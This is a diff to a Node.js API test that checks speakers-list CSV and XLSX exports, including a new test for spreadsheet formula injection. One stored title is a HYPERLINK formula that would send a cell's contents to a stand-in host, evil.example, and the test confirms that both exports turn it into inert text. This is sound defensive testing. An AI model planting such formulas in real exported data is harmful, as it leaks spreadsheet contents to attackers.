@@ -7,6 +7,8 @@ import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
 import { after, before, beforeEach, describe, it } from 'node:test';
 import { and, eq } from 'drizzle-orm';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { buildTestApp, type TestApp } from '../../../test/helpers/app.js';
 import { client, createPerson, type Client } from '../../../test/helpers/actors.js';
 import { TEST_NOW } from '../../../test/helpers/db.js';
@@ -314,16 +316,35 @@ describe('speaking requests API', () => {
     const csv = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.csv' });
     assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
     assert.ok(csv.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'UTF-8 BOM');
-    const lines = csv.body
-      .replace(/^\ufeff/, '')
-      .trim()
-      .split('\n');
+    // Every text cell quoted (OWASP), so read it back as a spreadsheet would.
+    const rows = parse(csv.body, { bom: true }) as string[][];
     assert.equal(
-      lines[0],
+      rows[0].join(','),
       'position,honorific,name,name_latin,title,rank,entity,entity_own_language,country,kind,language,minutes,moved_by_hand',
     );
-    assert.match(lines[1], /^1,,Paulo Silva,Paulo SILVA,/);
-    assert.match(lines[3], /^3,,عبد الله السواحه,Abdullah ALSWAHA,Minister of Communication,minister,Saudi Arabia,/);
+    assert.deepEqual(rows[1].slice(0, 4), ['1', '', 'Paulo Silva', 'Paulo SILVA']);
+    assert.deepEqual(rows[3].slice(0, 7), [
+      '3',
+      '',
+      'عبد الله السواحه',
+      'Abdullah ALSWAHA',
+      'Minister of Communication',
+      'minister',
+      'Saudi Arabia',
+    ]);
+    // A formula typed as a title comes out as text in both spreadsheets.
+    await t.database.db
+      .update(speakingRequests)
+      .set({ title: '=HYPERLINK("http://evil.example/"&A1)' })
+      .where(eq(speakingRequests.familyNameLatin, 'SILVA'));
+    const evil = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.csv' });
+    assert.match(evil.headers['content-disposition'] as string, /^attachment; filename="speakers-HLT-04\.csv"/);
+    assert.ok(evil.body.includes(`"'=HYPERLINK(""http://evil.example/""&A1)"`), evil.body);
+    const xlsx = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.xlsx' });
+    assert.equal(xlsx.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(xlsx.rawPayload as never);
+    assert.equal(wb.worksheets[0].getCell('E2').value, `'=HYPERLINK("http://evil.example/"&A1)`);
     const pdf = await staff.inject({ url: '/api/v1/sessions/HLT-04/speakers-list.pdf?lang=ar' });
     assert.equal(pdf.headers['content-type'], 'application/pdf');
     assert.equal(pdf.rawPayload.subarray(0, 5).toString(), '%PDF-');
